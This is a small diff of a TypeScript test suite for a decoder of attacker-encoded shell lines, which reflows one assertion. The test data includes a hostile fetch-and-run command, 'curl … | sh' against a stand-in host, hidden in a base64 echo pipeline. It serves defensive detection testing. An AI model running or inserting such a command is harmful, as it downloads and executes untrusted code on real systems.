@@ -7,7 +7,9 @@ const decoded = (line: string) => decodeLine(line, newBudget());
 
 describe('decoding what attackers encode', () => {
   it('decodes a base64 run to its text', () => {
-    expect(decoded(`echo '${b64('curl -s https://x.example/a | sh')}' | base64 -d`)).toEqual([{ encoding: 'base64', text: 'curl -s https://x.example/a | sh' }]);
+    expect(decoded(`echo '${b64('curl -s https://x.example/a | sh')}' | base64 -d`)).toEqual([
+      { encoding: 'base64', text: 'curl -s https://x.example/a | sh' },
+    ]);
   });
 
   it('decodes URL-safe base64 and runs without padding', () => {
